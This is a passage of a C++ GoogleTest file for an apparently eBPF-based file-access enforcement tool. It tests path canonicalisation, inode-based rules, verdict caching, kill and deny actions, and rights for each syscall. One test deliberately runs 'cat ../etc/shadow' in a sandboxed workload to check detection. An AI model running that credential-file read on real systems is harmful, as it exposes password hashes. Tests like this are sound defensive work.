// SPDX-License-Identifier: Apache-2.0
// The file probes (bpf/files.bpf.c) against real processes in a real
// cgroup: canonical paths however the name was spelt, rights derived from
// what the syscall did, the kernel's inode rules, userspace globs with
// their verdicts written back, and kill at sys_exit.
#include <fcntl.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <optional>
#include <span>
#include <string>
#include <thread>
#include <tuple>
#include <vector>

#include <gtest/gtest.h>

#include <fnwarden/kernel_abi.h>

#include "common/unique_fd.hpp"
#include "core/file_access.hpp"
#include "output/event_json.hpp"
#include "probe_fixture.hpp"
#include "runtime/exec_hash.hpp"

namespace fnw::test {
namespace {

namespace fs = std::filesystem;

// The test's end of the workload's wait-fifo:PATH step, instead of sleeping
// and hoping. start() opens the FIFO for writing in a thread: open() returns
// once the workload has opened it for reading (it got there and waits),
// then `at_ready` runs, then one byte lets the workload go on. finish()
// (after the run) unblocks a thread whose workload never came; reached()
// says whether it did.
class Handshake {
public:
    explicit Handshake(fs::path fifo) : fifo_(std::move(fifo)) {
        EXPECT_EQ(::mkfifo(fifo_.c_str(), 0600), 0) << fifo_ << ": " << std::strerror(errno);
    }
    ~Handshake() { finish(); }
    Handshake(const Handshake&) = delete;
    Handshake& operator=(const Handshake&) = delete;

    std::string step() const { return "wait-fifo:" + fifo_.string(); }
    void start(std::function<void()> at_ready) {
        thread_ = std::thread([this, at_ready = std::move(at_ready)] {
            UniqueFd fd(::open(fifo_.c_str(), O_WRONLY | O_CLOEXEC));
            if (!fd.valid() || finished_) return;
            reached_ = true;
            at_ready();
            EXPECT_EQ(::write(fd.get(), "x", 1), 1);
        });
    }
    void finish() {
        if (!thread_.joinable()) return;
        finished_ = true;
        UniqueFd unblock(::open(fifo_.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC));
        thread_.join();
    }
    bool reached() const { return reached_; }

private:
    fs::path fifo_;
    std::thread thread_;
    std::atomic<bool> finished_{false}, reached_{false};
};

class FileProbeTest : public ProbeTest {
protected:
    // One probe set for the whole suite: the file probes' 48 tracepoints
    // cost an RCU grace period each to detach, seconds per test in the VM
    // lane. Each test uses fresh policy slots and compares counter deltas.
    static std::unique_ptr<ProbeSet>& shared() {
        static std::unique_ptr<ProbeSet> probes;
        return probes;
    }
    static void TearDownTestSuite() { shared().reset(); }

    void SetUp() override {
        if (shared()) {
            probes_ = std::move(shared());
            cgroup_parent_ = test_cgroup_parent(*find_cgroup2_mount());  // as load() sets it
        } else
            ProbeTest::SetUp();
        if (IsSkipped() || HasFatalFailure()) return;
        before_ = probes_->counters();
        char tmpl[] = "/tmp/fnw-files-XXXXXX";
        ASSERT_NE(::mkdtemp(tmpl), nullptr);
        // Canonical: /tmp may itself be a symlink on some systems.
        dir_ = fs::canonical(tmpl);
        // A private tmpfs: stat() and the kernel agree on its inodes on every
        // host, so what the kernel decides here is the same on this host's
        // ext4 and the VM lane's overlay root (ARuleOnOverlayfs... tests the
        // other case on purpose).
        ASSERT_EQ(::mount("tmpfs", dir_.c_str(), "tmpfs", 0, "size=8m,mode=0755"), 0) << std::strerror(errno);
        mounted_ = true;
        std::ofstream(dir_ / "secret") << "secret\n";
        std::ofstream(dir_ / "a.txt") << "a\n";
        std::ofstream(dir_ / "b.log") << "b\n";
        fs::create_directory(dir_ / "scratch");
        fs::create_directory(dir_ / "sync");  // handshake FIFOs: readable by policy()
    }
    void TearDown() override {
        if (mounted_) { EXPECT_EQ(::umount2(dir_.c_str(), MNT_DETACH), 0) << std::strerror(errno); }
        std::error_code ec;
        if (!dir_.empty()) fs::remove_all(dir_, ec);
        if (probes_) shared() = std::move(probes_);
    }

    // Counters since this test started.
    ProbeCounters counters() const {
        ProbeCounters now = probes_->counters();
        now.file_checks -= before_.file_checks;
        now.file_pending -= before_.file_pending;
        now.file_cache_hits -= before_.file_cache_hits;
        now.file_violations -= before_.file_violations;
        return now;
    }
    ProbeCounters before_;

    // Everything /bin/sh and coreutils need to start, and nothing else.
    FunctionPolicy policy(ViolationAction action = ViolationAction::Report) const {
        FunctionPolicy p = policy_denying({}, ViolationAction::Report);
        p.files.restricted = true;
        // locale.alias: coreutils open /usr/share/locale/locale.alias, a
        // symlink to it; rules name what the kernel opens.
        p.files.read = {"/usr/**", "/lib/**", "/lib64/**", "/etc/ld.so.cache", "/etc/locale.alias", "/dev/null",
                        "/proc/filesystems",  // coreutils built with SELinux support read it
                        (dir_ / "sync").string() + "/**"};  // the workload's end of a Handshake
        p.files.write = {"/dev/null"};
        p.files.on_violation = action;
        return p;
    }

    Run sh(const FunctionPolicy& p, Mode mode, const std::string& script, RunOptions opts = {}) {
        opts.use_landlock = false;  // what a function fnwarden did not launch gets
        return run(p, mode, {"/bin/sh", "-c", script}, opts);
    }

    // File-probe records (Landlock and LSM records have no access bits).
    static std::vector<fnw_file_event> accesses(const Run& r, uint8_t verdict) {
        std::vector<fnw_file_event> out;
        for (const auto& ev : r.file_events)
            if (ev.access != 0 && ev.verdict == verdict) out.push_back(ev);
        return out;
    }
    static std::string raw(const fnw_file_event& ev) { return ev.path; }
    // For failure messages.
    static std::string describe(const std::vector<fnw_file_event>& events) {
        std::string out;
        for (const auto& ev : events)
            out += std::string("\n  ") + ev.hdr.comm + " nr=" + std::to_string(ev.nr) + " raw=" + ev.path +
                   " path=" + event_path(ev).path + " access=" + std::to_string(ev.access) +
                   " missing=" + std::to_string(ev.missing) + " ret=" + std::to_string(ev.ret) +
                   " verdict=" + std::to_string(ev.verdict) + " kind=" + std::to_string(ev.resolved_kind);
        return out;
    }

    fs::path dir_;
    bool mounted_ = false;
};

TEST_F(FileProbeTest, RelativeOpenIsReportedWithTheAbsolutePathTheKernelOpened) {
    auto r = sh(policy(), Mode::Audit, "cd " + dir_.string() + " && cat secret >/dev/null");
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(raw(v[0]), "secret");
    EXPECT_EQ(v[0].resolved_kind, FNW_RESOLVED_OBJECT);
    EXPECT_EQ(event_path(v[0]).path, (dir_ / "secret").string());
    EXPECT_EQ(v[0].access, uint32_t{FNW_FILE_READ});
    EXPECT_EQ(v[0].missing, uint32_t{FNW_FILE_READ});
    EXPECT_EQ(v[0].ret >= 0, true);
    EXPECT_EQ(v[0].action, FNW_ACTION_REPORTED);  // audit
    EXPECT_EQ(v[0].hdr.cgroup_id, r.outcome.cgroup_id);
    EXPECT_STREQ(v[0].hdr.comm, "cat");
}

TEST_F(FileProbeTest, OpenThroughASymlinkIsReportedAsItsTarget) {
    fs::create_symlink(dir_ / "secret", dir_ / "innocent");
    auto r = sh(policy(), Mode::Audit, "cat " + (dir_ / "innocent").string() + " >/dev/null");
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(raw(v[0]), (dir_ / "innocent").string());
    EXPECT_EQ(event_path(v[0]).path, (dir_ / "secret").string());
}

TEST_F(FileProbeTest, DotDotFromTmpIsReportedAsEtcShadow) {
    auto r = sh(policy(), Mode::Audit, "cd /tmp && cat ../etc/shadow >/dev/null");
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(raw(v[0]), "../etc/shadow");
    EXPECT_EQ(event_path(v[0]).path, "/etc/shadow");
}

// Opens the kernel can allow by inode cross nothing: no event, nothing asked
// of userspace. Counted from the handshake on, after the loader's opens of
// /usr and /lib (on the VM lane's overlay root the kernel cannot match those
// by inode, and they are asked of fnwarden, see ARuleOnOverlayfs...).
TEST_F(FileProbeTest, AnAllowedWorkloadSendsNothing) {
    FunctionPolicy p = policy();
    p.files.read.push_back(dir_.string() + "/**");
    Handshake ready(dir_ / "sync" / "ready");
    ProbeCounters at_ready{};
    ready.start([&] { at_ready = probes_->counters(); });
    auto r = run_workload(p, Mode::Audit,
                          {ready.step(), "read:" + (dir_ / "secret").string(), "read:" + (dir_ / "a.txt").string(),
                           "exit-errno"},
                          {.use_landlock = false});
    ready.finish();
    ASSERT_TRUE(ready.reached());
    ASSERT_EQ(r.outcome.exit_code, 0);
    EXPECT_TRUE(r.file_events.empty()) << describe(r.file_events);
    const ProbeCounters now = probes_->counters();
    EXPECT_GE(now.file_checks - at_ready.file_checks, 2u) << "both reads were checked";
    EXPECT_EQ(now.file_pending - at_ready.file_pending, 0u) << "decided in the kernel: nothing asked of userspace";
}

TEST_F(FileProbeTest, GlobsAreDecidedInUserspaceAndAllowedOpensAreRememberedInTheKernel) {
    FunctionPolicy p = policy();
    p.files.read.push_back(dir_.string() + "/*.txt");  // not expressible by inode
    // What the shell and the cats' loaders send on their own: nothing where
    // the root filesystem proves its inodes (ext4), their libraries once
    // each on the VM lane's overlay root (no inode generation there).
    const uint64_t loader_before = probes_->counters().file_pending;
    sh(p, Mode::Audit, "cat /dev/null; cat /dev/null; cat /dev/null");
    const uint64_t loader = probes_->counters().file_pending - loader_before;
    before_ = probes_->counters();
    const std::string a = (dir_ / "a.txt").string();
    auto r = sh(p, Mode::Audit, "cat " + a + " >/dev/null; cat " + a + " >/dev/null; cat " + (dir_ / "b.log").string() +
                                    " >/dev/null");
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << "b.log only";
    EXPECT_EQ(event_path(v[0]).path, (dir_ / "b.log").string());
    EXPECT_EQ(v[0].missing, uint32_t{FNW_FILE_READ});
    EXPECT_TRUE(accesses(r, FNW_VERDICT_ALLOWED).empty()) << "allowed and untraced: dropped";
    const auto c = counters();
    // The first cat of a.txt asked userspace, which wrote the verdict back;
    // the second was answered in the kernel.
    EXPECT_GE(c.file_cache_hits, 1u);
    EXPECT_GE(c.file_pending, loader + 2);  // a.txt once, b.log once
    EXPECT_LT(c.file_pending, loader + 6) << "the loader's opens beyond its own baseline are inode-allowed, not sent";
}

// files.bpf.c keeps each thread's last allowed open (file_verdict_memo) and
// answers a repeat from it without the verdict cache. These change what the
// full check would say between a thread's second read of `first` (answered
// from that copy) and its read of `then`, which must get the full check's
// answer: `change` runs when the second read's record (traced) has been
// handled, and the workload waits for it without opening anything, so its
// last allowed open is still `first`.
class FileVerdictMemoTest : public FileProbeTest {
protected:
    std::vector<fnw_file_event> reads_around(const FunctionPolicy& p, const fs::path& first, const fs::path& then,
                                             const std::function<void()>& change) {
        const fs::path go = dir_ / "sync" / "go";
        int seen = 0;
        on_record_ = [&](std::span<const std::byte> rec) {
            fnw_file_event ev{};
            if (rec.size() != sizeof(ev)) return;
            std::memcpy(&ev, rec.data(), sizeof(ev));
            if (ev.hdr.type != FNW_EVENT_FILE || raw(ev) != first.string() || ++seen != 2) return;
            change();
            std::ofstream(go) << "go";
        };
        auto r = run_workload(p, Mode::Audit,
                              {"read:" + first.string(), "read:" + first.string(), "await-file:" + go.string(),
                               "read:" + then.string(), "exit-errno"},
                              {.trace = true, .use_landlock = false});
        on_record_ = nullptr;
        EXPECT_GE(seen, 2) << describe(r.file_events);
        EXPECT_EQ(r.outcome.exit_code, 0) << "124: the change never ran";
        EXPECT_GE(counters().file_cache_hits, 1u) << "the second read was answered from a cache";
        std::vector<fnw_file_event> out;
        for (const auto& ev : r.file_events)
            if (ev.access == FNW_FILE_READ && (raw(ev) == first.string() || raw(ev) == then.string()))
                out.push_back(ev);
        return out;
    }
};

TEST_F(FileVerdictMemoTest, AReloadThatTakesTheGrantAwayEndsTheThreadsCachedAllow) {
    FunctionPolicy p = policy();
    p.files.read.push_back(dir_.string() + "/**");
    const fs::path secret = dir_ / "secret";
    const auto reads = reads_around(p, secret, secret, [&] {
        EXPECT_TRUE(probes_->set_policy(last_policy_id(), policy(), Mode::Audit).ok()) << "the reload";
    });
    ASSERT_EQ(reads.size(), 3u) << describe(reads);
    EXPECT_EQ(reads[0].verdict, FNW_VERDICT_ALLOWED);
    EXPECT_EQ(reads[1].verdict, FNW_VERDICT_ALLOWED);
    EXPECT_EQ(reads[2].verdict, FNW_VERDICT_VIOLATION) << "allowed by the rules of before the reload";
}

TEST_F(FileVerdictMemoTest, AFileRenamedOutOfTheAllowedDirectoryIsNotAllowedThere) {
    fs::create_directory(dir_ / "ok");
    fs::create_directory(dir_ / "no");
    const fs::path in = dir_ / "ok" / "f", out = dir_ / "no" / "f";
    std::ofstream(in) << "f\n";
    FunctionPolicy p = policy();
    p.files.read.push_back((dir_ / "ok").string() + "/**");
    const auto reads = reads_around(p, in, out, [&] { EXPECT_EQ(::rename(in.c_str(), out.c_str()), 0); });
    ASSERT_EQ(reads.size(), 3u) << describe(reads);
    EXPECT_EQ(reads[1].verdict, FNW_VERDICT_ALLOWED);
    EXPECT_EQ(reads[2].verdict, FNW_VERDICT_VIOLATION) << "the same inode, now where nothing allows it";
}

// A single-file rule names an inode, and files get replaced: a rename over
// the allowed file (what resolvconf or an editor does) makes a new inode.
// Reading the new one must not be killed as a violation: a miss in that
// directory goes to fnwarden, which matches the name. A sibling the policy
// does not name is still a violation (decided by name there).
TEST_F(FileProbeTest, AReplacedSingleFileIsStillAllowedByName) {
    const auto config = dir_ / "config";
    const auto sibling = dir_ / "a.txt";
    std::ofstream(config) << "v1";
    FunctionPolicy p = policy(ViolationAction::Kill);
    p.files.read.push_back(config.string());
    // The rule is compiled when the run starts (it holds the v1 inode); the
    // file is replaced while the function waits, then read.
    Handshake replace(dir_ / "sync" / "replace");
    replace.start([&] {
        const auto replacement = dir_ / "config.new";
        std::ofstream(replacement) << "v2";
        EXPECT_EQ(::rename(replacement.c_str(), config.c_str()), 0);
    });
    auto replaced = run_workload(p, Mode::Enforce, {replace.step(), "read:" + config.string(), "exit-errno"},
                                 {.use_landlock = false});
    replace.finish();
    ASSERT_TRUE(replace.reached());
    EXPECT_EQ(replaced.outcome.exit_code, 0) << "killed for reading the file its policy names";
    EXPECT_TRUE(accesses(replaced, FNW_VERDICT_VIOLATION).empty()) << describe(replaced.file_events);

    // A sibling the single-file rule does not name is the kernel's to
    // decide (issue 21: it used to wait for fnwarden's name match, and a
    // short-lived process finished first): killed at sys_exit.
    // No waiting for a kill: it exits right after the read unless it died first.
    auto other = run_workload(p, Mode::Enforce, {"read:" + sibling.string(), "exit:0"}, {.use_landlock = false});
    EXPECT_EQ(other.outcome.term_signal.value_or(0), SIGKILL) << "it never returned from the open";
    auto v = accesses(other, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(v[0].mechanism, FNW_MECH_SIGKILL) << "decided by inode, in the kernel";
}

// docs/threat-model.md, "A grant that follows an inode number": a platform
// recreates a function's scratch tree while the function runs (rm -rf A B,
// then mkdir, in either order). ext4 hands a new directory the inode number
// a deleted one had, so a rule keyed on the number alone would let the
// function read B/secret with no event, and kill it for reading A/f, which
// its `A/**` pattern allows. Keyed on (inode, generation), B is not A; the
// new A is found by name on the way up (file_rule_names), decided by
// fnwarden's matcher, and the rules are re-read so the kernel knows it.
class InodeReuseTest : public FileProbeTest, public ::testing::WithParamInterface<std::tuple<std::string, bool>> {
protected:
    // The directory the tree lives in: the suite's private tmpfs, or a new
    // directory on the root filesystem when that is ext4 (not on the VM
    // lane's overlay root).
    fs::path tree_root() {
        if (std::get<0>(GetParam()) == "tmpfs") return dir_;
        char tmpl[] = "/var/tmp/fnw-inode-reuse-XXXXXX";
        if (!::mkdtemp(tmpl)) return {};
        ext4_dir_ = tmpl;
        struct statfs st {};
        if (::statfs(tmpl, &st) != 0 || st.f_type != 0xEF53) return {};
        return ext4_dir_;
    }
    void TearDown() override {
        if (!ext4_dir_.empty()) fs::remove_all(ext4_dir_);
        FileProbeTest::TearDown();
    }
    fs::path ext4_dir_;
};

TEST_P(InodeReuseTest, ARecreatedTreeKeepsItsGrantsWithTheNamesNotTheInodeNumbers) {
    const fs::path root = tree_root();
    ASSERT_FALSE(root.empty()) << "no " << std::get<0>(GetParam()) << " directory to recreate the tree in";
    const bool a_first = std::get<1>(GetParam());
    const fs::path a = root / "A", b = root / "B";
    auto make_tree = [&] {
        fs::create_directory(a_first ? a : b);
        fs::create_directory(a_first ? b : a);
        std::ofstream(a / "f") << "allowed\n";
        std::ofstream(b / "secret") << "secret\n";
    };
    make_tree();
    struct stat old_a {};
    ASSERT_EQ(::stat(a.c_str(), &old_a), 0);

    FunctionPolicy p = policy(ViolationAction::Kill);
    p.files.read.push_back(a.string() + "/**");
    const uint64_t refreshes = probes_->file_rule_refreshes();
    Handshake recreated(dir_ / "sync" / "recreated");
    ino_t b_ino = 0;
    recreated.start([&] {
        fs::remove_all(a);
        fs::remove_all(b);
        make_tree();
        struct stat st {};
        if (::stat(b.c_str(), &st) == 0) b_ino = st.st_ino;
    });
    auto r = run_workload(p, Mode::Enforce,
                          {"read:" + (a / "f").string(), "exit-on-error", recreated.step(),
                           "read:" + (a / "f").string(), "exit-on-error", "read:" + (a / "f").string(),
                           "exit-on-error", "read:" + (b / "secret").string(), "await-kill:30", "exit:0"},
                          {.use_landlock = false});
    recreated.finish();
    ASSERT_TRUE(recreated.reached());
    std::cout << "[ info ] " << std::get<0>(GetParam()) << ": B got A's old inode number: "
              << (b_ino == old_a.st_ino ? "yes" : "no") << "\n";

    EXPECT_EQ(r.outcome.term_signal.value_or(0), SIGKILL) << "exit " << r.outcome.exit_code;
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << "the new A/f is allowed, the new B/secret is not:" << describe(v);
    EXPECT_EQ(event_path(v[0]).path, (b / "secret").string());
    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
    EXPECT_GT(probes_->file_rule_refreshes(), refreshes) << "the kernel was told the new A";
}

// The filesystems to try here: the suite's tmpfs everywhere, and ext4 where
// the root filesystem (/var/tmp) is ext4; not on the VM lane's overlay
// root, where a skip would fail the lane.
std::vector<std::string> filesystems_here() {
    std::vector<std::string> out{"tmpfs"};
    struct statfs st {};
    if (::statfs("/var/tmp", &st) == 0 && st.f_type == 0xEF53) out.push_back("ext4");
    return out;
}

INSTANTIATE_TEST_SUITE_P(BothOrders, InodeReuseTest,
                         ::testing::Combine(::testing::ValuesIn(filesystems_here()), ::testing::Bool()),
                         [](const auto& info) {
                             return std::get<0>(info.param) + (std::get<1>(info.param) ? "_AFirst" : "_BFirst");
                         });


// A violation of a right the kernel decides (every write pattern here is on
// a tmpfs or devtmpfs) ends the process before its next step: killed at
// sys_exit of the open, or, where BPF-LSM runs, refused and killed.
TEST_F(FileProbeTest, KillActionKillsTheWriterBeforeItGoesOn) {
    const auto out = dir_ / "scratch" / "out";
    const auto secret = dir_ / "secret";
    std::ofstream(out) << "original";
    FunctionPolicy p = policy(ViolationAction::Kill);
    p.files.write.push_back((dir_ / "scratch").string() + "/**");
    // The workload overwrites the secret, then would overwrite `out` at once.
    auto r = run_workload(p, Mode::Enforce, {"write:" + secret.string(), "write:" + out.string()},
                          {.use_landlock = false});
    EXPECT_EQ(r.outcome.term_signal.value_or(0), SIGKILL);
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(event_path(v[0]).path, secret.string());
    EXPECT_EQ(v[0].missing, uint32_t{FNW_FILE_WRITE});
    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
    std::string content;
    std::ifstream(out) >> content;
    EXPECT_EQ(content, "original") << "nothing after the violation ran";
    std::ifstream(secret) >> content;
    if (probes_->lsm_hook_loaded("file_open")) {
        EXPECT_EQ(v[0].mechanism, FNW_MECH_BPF_LSM);
        EXPECT_EQ(content, "secret") << "refused before O_TRUNC";
        return;
    }
    // In the kernel, at sys_exit: the open (and its O_TRUNC) happened, the
    // write that would have followed it did not.
    EXPECT_EQ(v[0].mechanism, FNW_MECH_SIGKILL);
    EXPECT_EQ(fs::file_size(secret), 0u) << "truncated by the open, never written";
}

// Without Landlock or BPF-LSM nothing can make the open fail: deny kills at
// sys_exit. Where the file_open hook loaded (the VM lane), deny refuses.
TEST_F(FileProbeTest, DenyFallsBackToKillWithoutLandlockOrLsm) {
    const auto secret = dir_ / "secret";
    auto r = run_workload(policy(ViolationAction::Deny), Mode::Enforce, {"write:" + secret.string(), "exit-errno"},
                          {.use_landlock = false});
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    if (probes_->lsm_hook_loaded("file_open")) {
        EXPECT_EQ(r.outcome.exit_code, EPERM);
        EXPECT_EQ(v[0].action, FNW_ACTION_DENIED);
        EXPECT_EQ(v[0].mechanism, FNW_MECH_BPF_LSM);
        return;
    }
    EXPECT_EQ(r.outcome.term_signal.value_or(0), SIGKILL) << "exit " << r.outcome.exit_code;
    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
    EXPECT_EQ(v[0].mechanism, FNW_MECH_SIGKILL);
}

// docs/threat-model.md, inode identity: where stat() does not report the
// inode the kernel's dentries carry (overlayfs, btrfs subvolumes), a rule
// still allows what it matches, but the kernel never calls a miss of that
// right a violation: fnwarden's matcher decides, with the same answer, and
// its kill is asynchronous. An overlay mounted here, so every host has one.
TEST_F(FileProbeTest, ARuleOnOverlayfsLeavesTheVerdictToFnwardenWithTheSameAnswer) {
    const auto ovl = dir_ / "ovl";
    for (const char* sub : {"lower", "upper", "work", "merged"}) fs::create_directories(ovl / sub);
    std::ofstream(ovl / "lower" / "allowed.txt") << "lower";
    const std::string opts = "lowerdir=" + (ovl / "lower").string() + ",upperdir=" + (ovl / "upper").string() +
                             ",workdir=" + (ovl / "work").string();
    ASSERT_EQ(::mount("overlay", (ovl / "merged").c_str(), "overlay", 0, opts.c_str()), 0) << std::strerror(errno);
    struct Unmount {
        fs::path at;
        ~Unmount() { ::umount2(at.c_str(), MNT_DETACH); }
    } unmount{ovl / "merged"};

    FunctionPolicy p = policy(ViolationAction::Kill);
    p.files.write.push_back((ovl / "merged").string() + "/**");
    const KernelFileRules rules = compile_file_rules(1, p.files, p.exec, probes_->identity_fn());
    EXPECT_EQ(rules.complete_rights & FNW_FILE_WRITE, 0u) << "a write pattern on overlayfs: write is not the kernel's";

    auto allowed = run_workload(p, Mode::Enforce, {"write:" + (ovl / "merged" / "allowed.txt").string(), "exit-errno"},
                                {.use_landlock = false});
    EXPECT_EQ(allowed.outcome.exit_code, 0);
    EXPECT_TRUE(accesses(allowed, FNW_VERDICT_VIOLATION).empty()) << describe(allowed.file_events);

    // A write outside every pattern, on the tmpfs: without the overlay rule
    // the kernel would kill at sys_exit (KillActionKillsTheWriterBeforeItGoesOn).
    auto denied = run_workload(p, Mode::Enforce, {"write:" + (dir_ / "secret").string(), "exit:0"},
                               {.use_landlock = false});
    EXPECT_EQ(denied.outcome.term_signal.value_or(0), SIGKILL);
    auto v = accesses(denied, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(event_path(v[0]).path, (dir_ / "secret").string());
    EXPECT_EQ(v[0].action, FNW_ACTION_KILLED);
    EXPECT_EQ(v[0].mechanism, FNW_MECH_HELD_KILL) << "decided by fnwarden's matcher while the kernel held it";
}

TEST_F(FileProbeTest, CreateDeleteAndRenameNeedTheirOwnRights) {
    FunctionPolicy p = policy();
    p.files.read.push_back(dir_.string() + "/**");
    p.files.write.push_back(dir_.string() + "/**");
    p.files.create.push_back((dir_ / "scratch").string() + "/**");
    p.files.remove.push_back((dir_ / "scratch").string() + "/**");
    const std::string d = dir_.string();
    auto r = sh(p, Mode::Audit,
                "mkdir " + d + "/newdir; mkdir " + d + "/scratch/ok; rm " + d + "/secret; mv " + d + "/a.txt " + d +
                    "/scratch/a.txt; : >>" + d + "/b.log; : >" + d + "/scratch/new; : >" + d + "/new");
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    std::vector<std::string> seen;
    for (const auto& ev : v)
        seen.push_back(std::string(ev.hdr.comm) + " " + event_path(ev).path + " " +
                       file_access_names(ev.missing).front());
    std::sort(seen.begin(), seen.end());
    const std::vector<std::string> expected = {
        "mkdir " + d + "/newdir create",  // outside scratch
        "mv " + d + "/a.txt delete",      // moved out of a place it may not delete from
        "rm " + d + "/secret delete",
        "sh " + d + "/new create",  // a new file outside scratch; ">>" on b.log created nothing
    };
    EXPECT_EQ(seen, expected);
    for (const auto& ev : v)
        if (std::string(ev.hdr.comm) == "mv") {
            EXPECT_EQ(ev.access, uint32_t{FNW_FILE_DELETE});
            EXPECT_EQ(ev.access2, uint32_t{FNW_FILE_CREATE});
            EXPECT_EQ(std::string(ev.path2), d + "/scratch/a.txt");
        }
}

TEST_F(FileProbeTest, ThreeLevelsOfChildrenAreStillCovered) {
    auto r = sh(policy(), Mode::Audit,
                "sh -c 'sh -c \"cat " + (dir_ / "secret").string() + " >/dev/null\"'");
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto v = accesses(r, FNW_VERDICT_VIOLATION);
    ASSERT_EQ(v.size(), 1u) << describe(v);
    EXPECT_EQ(event_path(v[0]).path, (dir_ / "secret").string());
    EXPECT_NE(v[0].hdr.pid, static_cast<uint32_t>(r.outcome.pid));
    EXPECT_EQ(v[0].hdr.cgroup_id, r.outcome.cgroup_id);
}

TEST_F(FileProbeTest, TracedAllowedAccessesAreReportedAsAllowed) {
    FunctionPolicy p = policy();
    p.files.read.push_back(dir_.string() + "/**");
    auto r = sh(p, Mode::Audit, "cat " + (dir_ / "a.txt").string() + " >/dev/null", {.trace = true});
    ASSERT_EQ(r.outcome.exit_code, 0);
    auto allowed = accesses(r, FNW_VERDICT_ALLOWED);
    const bool found = std::any_of(allowed.begin(), allowed.end(), [&](const fnw_file_event& ev) {
        return event_path(ev).path == (dir_ / "a.txt").string() && ev.access == FNW_FILE_READ;
    });
    EXPECT_TRUE(found);
    EXPECT_TRUE(accesses(r, FNW_VERDICT_VIOLATION).empty());
    EXPECT_TRUE(accesses(r, FNW_VERDICT_PENDING).empty()) << "userspace decides before anyone sees it";
}

TEST_F(FileProbeTest, UnrestrictedPoliciesAndOtherProcessesPayNoFileChecks) {
    FunctionPolicy p = policy_denying({}, ViolationAction::Report);  // no files section
    auto r = sh(p, Mode::Audit, "cat /etc/hostname >/dev/null");
    ASSERT_EQ(r.outcome.exit_code, 0);
    EXPECT_TRUE(r.file_events.empty());
    EXPECT_EQ(counters().file_checks, 0u);
}

// ---- every other file syscall the probes claim, driven --------------------
//
// docs/enforcement.md: link and symlink need `create` at the new name, rmdir
// `delete`, chmod and chown `write`, creat and mknod `create` (creat also
// `write`), openat2 what its flags ask. Each runs in a directory the policy
// allows (in/) and one it does not (out/), named relative to a cwd entered
// through a symlink: the event's path must be the canonical one.

struct FileOp {
    const char* name;
    std::string (*step)(const std::string& d);  // d: "in" or "out"
    const char* object;                         // the name the event reports, in d
    long nr;                                    // the syscall the event names
    uint32_t access;                            // what it needs; outside in/, all of it is missing
    const char* lsm_hook;                       // the BPF-LSM hook that refuses it first, or none
    bool (*happened)(const fs::path& d);        // its side effect in d
};

const FileOp kFileOps[] = {
    {"link", [](const std::string& d) { return "link:" + d + "/file:" + d + "/linked"; }, "linked", SYS_link,
     FNW_FILE_CREATE, "path_link", [](const fs::path& d) { return fs::hard_link_count(d / "file") == 2; }},
    {"symlink", [](const std::string& d) { return "symlink:file:" + d + "/symlinked"; }, "symlinked", SYS_symlink,
     FNW_FILE_CREATE, "path_symlink", [](const fs::path& d) { return fs::is_symlink(d / "symlinked"); }},
    {"rmdir", [](const std::string& d) { return "rmdir:" + d + "/dir"; }, "dir", SYS_rmdir, FNW_FILE_DELETE,
     "path_rmdir", [](const fs::path& d) { return !fs::exists(d / "dir"); }},
    {"mknod", [](const std::string& d) { return "mknod:" + d + "/fifo"; }, "fifo", SYS_mknod, FNW_FILE_CREATE,
     "path_mknod", [](const fs::path& d) { return fs::is_fifo(d / "fifo"); }},
    {"creat", [](const std::string& d) { return "creat:" + d + "/created"; }, "created", SYS_creat,
     FNW_FILE_WRITE | FNW_FILE_CREATE, "path_mknod", [](const fs::path& d) { return fs::exists(d / "created"); }},
    {"chmod", [](const std::string& d) { return "chmod:" + d + "/file:600"; }, "file", SYS_chmod, FNW_FILE_WRITE,
     nullptr,
     [](const fs::path& d) { return (fs::status(d / "file").permissions() & fs::perms::all) == fs::perms(0600); }},
    {"chown", [](const std::string& d) { return "chown:" + d + "/file:1:1"; }, "file", SYS_chown, FNW_FILE_WRITE,
     nullptr,
     [](const fs::path& d) {
         struct stat st {};
         return ::stat((d / "file").c_str(), &st) == 0 && st.st_uid == 1;
     }},
    {"openat2", [](const std::string& d) { return "openat2:" + d + "/file"; }, "file", SYS_openat2, FNW_FILE_WRITE,
     "file_open", [](const fs::path& d) { return fs::file_size(d / "file") == 0; }},  // O_WRONLY|O_TRUNC
};

// Names the operation in failure messages (instead of the struct's bytes).
void PrintTo(const FileOp& op, std::ostream* os) { *os << op.name; }

class FileOpTest : public FileProbeTest, public ::testing::WithParamInterface<FileOp> {
protected:
    void SetUp() override {
        FileProbeTest::SetUp();
        if (IsSkipped() || HasFatalFailure()) return;
        fs::create_directory_symlink(dir_, dir_ / "alias");
        reset();
    }
    // Fresh in/ and out/: a file (0644, root's, with content) and an empty directory in each.
    void reset() {
